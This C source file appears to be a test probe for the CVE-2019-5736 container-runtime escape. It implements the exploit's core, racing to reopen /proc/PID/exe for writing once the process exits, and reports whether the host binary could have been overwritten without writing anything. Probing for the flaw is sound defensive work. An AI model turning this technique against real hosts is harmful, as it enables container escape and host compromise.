/* exereopen PID FIFO: the CVE-2019-5736 exploit's core, against a process
 * of another container in our pid namespace that is about to execve a
 * "#!/proc/self/exe" script, i.e. to run the runtime's binary.
 *
 * Waits (up to ~10 s) until /proc/PID/exe can be opened O_PATH, opens FIFO
 * for reading (the runtime binary, started with --log=FIFO, is blocked
 * opening it), drains it, waits for PID to exit, then reopens the O_PATH
 * handle for writing through /proc/self/fd. Prints one line:
 *   "reopen-wronly ok"      the host binary could have been overwritten
 *   "reopen-wronly denied E" the reopen failed (E = errno name)
 *   "never-opened E"        /proc/PID/exe never became accessible
 * Writes nothing. Exit status 1 for "ok", else 0; 2 on usage. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void
nap (long ms)
{
  struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
  nanosleep (&ts, NULL);
}

static const char *
ename (int e)
{
  return strerrorname_np (e) ? strerrorname_np (e) : "?";
}

int
main (int argc, char **argv)
{
  char p[64], q[64], buf[512];
  if (argc != 3)
    return 2;
  snprintf (p, sizeof p, "/proc/%s/exe", argv[1]);

  int fd = -1, last = 0;
  for (int i = 0; i < 10000 && fd < 0; i++)
    {
      fd = open (p, O_PATH | O_CLOEXEC);
      if (fd < 0)
        {
          last = errno;
          /* Gone: the exec was refused and the process exited. */
          if (errno == ENOENT || errno == ESRCH)
            break;
          nap (1);
        }
    }
  if (fd < 0)
    {
      printf ("never-opened %s\n", ename (last));
      return 0;
    }
  int ff = open (argv[2], O_RDONLY | O_CLOEXEC);
  if (ff >= 0)
    {
      while (read (ff, buf, sizeof buf) > 0)
        ;
      close (ff);
    }
  /* ETXTBSY lasts while the binary runs: wait for the process to go. */
  for (int i = 0; i < 1000 && access (p, F_OK) == 0; i++)
    nap (10);
  nap (100);
  snprintf (q, sizeof q, "/proc/self/fd/%d", fd);
  int w = open (q, O_WRONLY | O_CLOEXEC);
  if (w >= 0)
    {
      printf ("reopen-wronly ok\n");
      return 1;
    }
  printf ("reopen-wronly denied %s\n", ename (errno));
  return 0;
}
